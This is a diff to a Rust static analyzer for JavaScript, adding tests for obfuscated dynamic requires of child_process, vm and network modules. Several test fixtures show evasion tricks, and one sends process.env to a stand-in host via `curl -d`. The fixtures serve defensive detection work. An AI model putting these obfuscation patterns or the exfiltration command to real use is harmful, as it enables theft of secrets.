@@ -601,7 +601,7 @@ fn is_function_expr(e: &Expression<'_>) -> bool {
     )
 }
 
-fn function_params<'b, 'a>(e: &'b Expression<'a>) -> Option<&'b FormalParameters<'a>> {
+pub(super) fn function_params<'b, 'a>(e: &'b Expression<'a>) -> Option<&'b FormalParameters<'a>> {
     match e.get_inner_expression() {
         Expression::FunctionExpression(f) => Some(&f.params),
         Expression::ArrowFunctionExpression(f) => Some(&f.params),
@@ -652,7 +652,7 @@ fn global_method<'e>(callee: &'e Expression<'_>, scoping: &Scoping) -> Option<(&
 }
 
 /// Array methods whose callback receives the array's elements.
-const CALLBACK_METHODS: [&str; 9] = [
+pub(super) const CALLBACK_METHODS: [&str; 9] = [
     "map",
     "forEach",
     "filter",
@@ -2028,10 +2028,10 @@ impl<'s> Walker<'s> {
             Expression::ThisExpression(_) => self.this_global.then_some(Val::SloppyThis),
             Expression::NewExpression(n) => self.new_val(n, d + 1),
             Expression::StaticMemberExpression(m) => self.mem(self.val_d(&m.object, d + 1), m.property.name.as_str()),
-            Expression::ComputedMemberExpression(m) => {
-                let k = self.fold(&m.expression)?;
-                self.mem(self.val_d(&m.object, d + 1), &k)
-            }
+            Expression::ComputedMemberExpression(m) => match self.fold(&m.expression) {
+                Some(k) => self.mem(self.val_d(&m.object, d + 1), &k),
+                None => self.followed_key_member(m, d + 1),
+            },
             Expression::ParenthesizedExpression(p) => self.val_d(&p.expression, d + 1),
             Expression::TSAsExpression(x) => self.val_d(&x.expression, d + 1),
             Expression::TSSatisfiesExpression(x) => self.val_d(&x.expression, d + 1),
@@ -2072,6 +2072,27 @@ impl<'s> Walker<'s> {
             Expression::ImportExpression(i) => self.spec_val(&i.source),
             _ => None,
         }
+    }
+
+    /// The member of a module bound to a name at a key that does not fold
+    /// (`cp[m()]`, `cp[o.k]`, `cp[name]` with `name` a parameter): one of the
+    /// module's tracked members among the key's followed strings, per world
+    /// (see [`Walker::choose`]). Another object, or one not a name, gives
+    /// none and is not evaluated.
+    fn followed_key_member(&self, m: &ComputedMemberExpression<'_>, d: u32) -> Option<Val> {
+        let Expression::Identifier(_) = m.object.get_inner_expression() else {
+            return None;
+        };
+        let ov = self.val_d(&m.object, d)?;
+        if !matches!(ov, Val::Mod(b) if b != Builtin::Other) {
+            return None;
+        }
+        self.choose(
+            self.fold_specs(&m.expression)
+                .iter()
+                .map(|k| self.mem(Some(ov), k))
+                .filter(|v| v.is_some_and(Val::is_trackable_member)),
+        )
     }
 
     /// What a value depends on besides the expression: the tables and shapes
@@ -5053,6 +5074,200 @@ require(o2.a);",
         ];
         assert_specifiers(&found[..3], &harmless);
         assert!(rules(found[3].0).contains(&found[3].1), "{:?}", rules(found[3].0));
+    }
+
+    /// SLO-02: a member a class's own code sets on `this` (in its
+    /// constructor or methods, or as a field) is what a read of that member
+    /// through `this` or an instance gives; `this.m()` calls its methods.
+    #[test]
+    fn slo_02_members_set_on_this_are_specifiers() {
+        // Each scanned as a bare dynamic-require before.
+        let found = [
+            (
+                "class K { constructor() { this.m = 'child' + '_process'; } run() { return require(this.m); } }",
+                RuleId::ChildProcess,
+            ),
+            (
+                "class K { m = 'v' + 'm'; run() { return require(this.m); } }",
+                RuleId::ForbiddenBuiltin,
+            ),
+            (
+                "class K { static init() { this.n = 'net'; } static load() { return require(this.n); } }",
+                RuleId::ForbiddenBuiltin,
+            ),
+            (
+                "class B { constructor() { this.m = 'child_process'; } }
+class D extends B { run() { return require(this.m); } }",
+                RuleId::ChildProcess,
+            ),
+            (
+                "const K = class { constructor() { this.m = 'vm'; } };
+const k = new K();
+require(k.m);",
+                RuleId::ForbiddenBuiltin,
+            ),
+            (
+                "class K { constructor() { this.f = () => 'child_process'; } run() { return require(this.f()); } }",
+                RuleId::ChildProcess,
+            ),
+            (
+                "class K { name() { return 'vm'; } run() { return require(this.name()); } }",
+                RuleId::ForbiddenBuiltin,
+            ),
+        ];
+        // A harmless member, another name, `this` of a nested function, an
+        // instance member read on the class stay a bare dynamic require.
+        let harmless = [
+            "class K { constructor() { this.m = './local'; } run() { return require(this.m); } }",
+            "class K { constructor() { this.n = 'child_process'; } run() { return require(this.m); } }",
+            "class K { constructor() { this.m = 'vm'; } run() { return function () { return require(this.m); }; } }",
+            "class K { constructor() { this.m = 'vm'; } static load() { return require(this.m); } }",
+        ];
+        assert_specifiers(&found, &harmless);
+    }
+
+    /// SLO-02: an `Object.assign(o, …)` statement copies its sources'
+    /// members into the object bound to `o` (the last call and source first).
+    #[test]
+    fn slo_02_members_an_assign_statement_copies_are_specifiers() {
+        // Each scanned as a bare dynamic-require before.
+        let found = [
+            (
+                "const o = {};
+Object.assign(o, { k: 'child' + '_process' });
+require(o.k);",
+                RuleId::ChildProcess,
+            ),
+            (
+                "const o = { k: './local' };
+Object.assign(o, { k: 'vm' });
+require(o.k);",
+                RuleId::ForbiddenBuiltin,
+            ),
+            (
+                "const src = { n: 'net' };
+const o = {};
+Object.assign(o, { n: './a' }, src);
+require(o['n']);",
+                RuleId::ForbiddenBuiltin,
+            ),
+            (
+                "const o = {};
+Object.assign(o, { m() { return 'child_process'; } });
+require(o.m());",
+                RuleId::ChildProcess,
+            ),
+        ];
+        // A harmless later copy, another member, a local `Object`, another
+        // target stay a bare dynamic require.
+        let harmless = [
+            "const o = {};
+Object.assign(o, { k: 'vm' });
+Object.assign(o, { k: './b' });
+require(o.k);",
+            "const o = { k: './a' };
+Object.assign(o, { j: 'child_process' });
+require(o.k);",
+            "const Object = { assign() {} };
+const o = {};
+Object.assign(o, { k: 'vm' });
+require(o.k);",
+            "const o = {}, p = {};
+Object.assign(p, { k: 'vm' });
+require(o.k);",
+        ];
+        assert_specifiers(&found, &harmless);
+    }
+
+    /// SLO-02: a parameter of a function bound to no name is what gives it
+    /// its arguments: the call invoking it where it is written, or, for an
+    /// array method's callback, each element of the array.
+    #[test]
+    fn slo_02_parameters_of_unbound_functions_give_their_strings() {
+        // Each scanned as a bare dynamic-require before.
+        let found = [
+            (
+                "(function (m) { return require(m); })('child' + '_process');",
+                RuleId::ChildProcess,
+            ),
+            ("((n) => require(n))('vm');", RuleId::ForbiddenBuiltin),
+            (
+                "['./a', 'net'].forEach(function (n) { require(n); });",
+                RuleId::ForbiddenBuiltin,
+            ),
+            (
+                "const mods = ['./a', 'child_process'];
+mods.map((s) => require(s));",
+                RuleId::ChildProcess,
+            ),
+            (
+                "(function load(m) { return require(m); })('vm');",
+                RuleId::ForbiddenBuiltin,
+            ),
+            (
+                "(function (a, m) { return require(m); })(1, 'dns');",
+                RuleId::NetworkBuiltin,
+            ),
+        ];
+        // Harmless arguments and elements, a reassigned parameter, a spread
+        // call, a callback's index parameter, a method not listed stay a
+        // bare dynamic require.
+        let harmless = [
+            "(function (m) { return require(m); })('./local');",
+            "(function (m) { m = './x'; return require(m); })('vm');",
+            "(function (m) { return require(m); })(...['vm']);",
+            "['vm'].forEach((x, i) => require(i));",
+            "['./a', './b'].forEach((n) => require(n));",
+            "['vm'].reduce((acc, n) => require(n), 0);",
+        ];
+        assert_specifiers(&found, &harmless);
+    }
+
+    /// SLO-02: a module's function called through a computed key the
+    /// specifier following resolves is that function (an exec sink).
+    #[test]
+    fn slo_02_a_module_member_at_a_followed_key_is_its_function() {
+        // Each only child-process and process-env before (no chain).
+        let found = [
+            "const cp = require('child_process');
+function m() { return 'exec'; }
+cp[m()](JSON.stringify(process.env));",
+            "const cp = require('child_process');
+const o = { k: 'exec' + 'Sync' };
+cp[o.k]('curl -d ' + JSON.stringify(process.env) + ' x.example');",
+            "const cp = require('child_process');
+function call(name) { return cp[name](JSON.stringify(process.env)); }
+call('sp' + 'awn');",
+        ];
+        for src in found {
+            let r = rules(src);
+            assert!(r.contains(&RuleId::ExfiltrationChain), "{src:?}: {r:?}");
+        }
+        // No secret passed, a harmless module, a key naming no exec
+        // function stay without a chain.
+        let harmless = [
+            (
+                "const cp = require('child_process');
+function m() { return 'exec'; }
+cp[m()]('ls');",
+                vec![RuleId::ChildProcess],
+            ),
+            (
+                "const p = require('path');
+function m() { return 'join'; }
+p[m()](JSON.stringify(process.env));",
+                vec![RuleId::ProcessEnv],
+            ),
+            (
+                "const cp = require('child_process');
+function m() { return 'toString'; }
+cp[m()](JSON.stringify(process.env));",
+                vec![RuleId::ChildProcess, RuleId::ProcessEnv],
+            ),
+        ];
+        for (src, want) in harmless {
+            assert_eq!(rules(src), want, "{src:?}");
+        }
     }
 
     /// SLO-02: a computed key of a powerful object that the specifier
